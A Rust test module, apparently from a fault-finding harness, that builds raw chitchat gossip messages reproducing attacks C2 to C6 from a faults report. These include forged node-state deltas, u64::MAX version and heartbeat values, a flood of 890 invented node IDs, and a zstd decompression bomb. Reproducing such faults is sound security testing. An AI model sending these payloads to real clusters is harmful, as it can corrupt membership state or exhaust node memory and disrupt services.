//! Attack: what FAULTS.md 5.1 found to end chitchat (C2 to C6), in chitchat's own form.

use skein_node::gossip::virtual_address;
use skein_protocol::name::{Hash, NodeKey};

/// A message in chitchat's form, written by hand.
struct Message(Vec<u8>);

/// An id: node and generation.
type Id = (NodeKey, u64);

impl Message {
    fn new(kind: u8) -> Self {
        let mut message = Self(Vec::new());
        message.u16(45_139);
        message.0.extend([0, kind]);
        message
    }

    fn u16(&mut self, number: u16) {
        self.0.extend(number.to_le_bytes());
    }

    fn u64(&mut self, number: u64) {
        self.0.extend(number.to_le_bytes());
    }

    fn text(&mut self, text: &[u8]) {
        self.u16(u16::try_from(text.len()).unwrap_or(u16::MAX));
        self.0.extend(text);
    }

    fn id(&mut self, (node, generation): &Id) {
        let address = virtual_address(node);
        self.text(node.short().as_str().as_bytes());
        self.u64(*generation);
        self.0.push(4);
        self.0.extend(address.ip().octets());
        self.u16(address.port());
    }

    fn digest(&mut self, mut ids: Vec<Id>, heartbeat: u64, version: u64) {
        ids.sort_by_key(|(node, generation)| (node.short().as_str().to_owned(), *generation));
        self.u16(u16::try_from(ids.len()).unwrap_or(u16::MAX));
        for id in &ids {
            self.id(id);
            self.u64(heartbeat);
            self.u64(0);
            self.u64(version);
        }
    }

    /// A delta of one node with one key, and a maximum version that is set after it.
    fn delta(&mut self, id: &Id, version: u64, maximum: Option<u64>) {
        let mut operations = Self(vec![0]);
        operations.id(id);
        operations.u64(0);
        operations.u64(0);
        operations.0.push(1);
        operations.text(b"state");
        operations.text(b"left");
        operations.u64(version);
        operations.0.push(0);
        if let Some(maximum) = maximum {
            operations.0.push(2);
            operations.u64(maximum);
        }
        self.0.push(2);
        self.text(&operations.0);
        self.0.push(0);
    }
}

/// What is told to `victim` about itself and `other`.
pub(super) fn messages(victim: &Id, other: &Id, cluster: &str) -> Vec<Vec<u8>> {
    let mut c2 = Message::new(1);
    c2.digest(vec![*other], 1, 1);
    c2.delta(other, 100, Some(1));
    let mut c3 = Message::new(2);
    c3.delta(victim, u64::MAX, None);
    let mut c4 = Message::new(0);
    c4.digest(vec![*other], u64::MAX, 1);
    c4.text(cluster.as_bytes());
    let mut c5 = Message::new(0);
    let invented = (0..890_u64).map(|n| (NodeKey(Hash::of(&[&n.to_le_bytes()]).0), 1));
    c5.digest(invented.collect(), 1, 1);
    c5.text(cluster.as_bytes());
    let mut c6 = Message::new(2);
    for _ in 0..3000 {
        c6.0.push(1);
        // A frame of one block that repeats a zero 65,535 times.
        c6.text(&[0x28, 0xb5, 0x2f, 0xfd, 0x60, 0xff, 0xfe, 0xfb, 0xff, 0x07, 0]);
    }
    c6.0.push(0);
    [c2, c3, c4, c5, c6].map(|message| message.0).into()
}
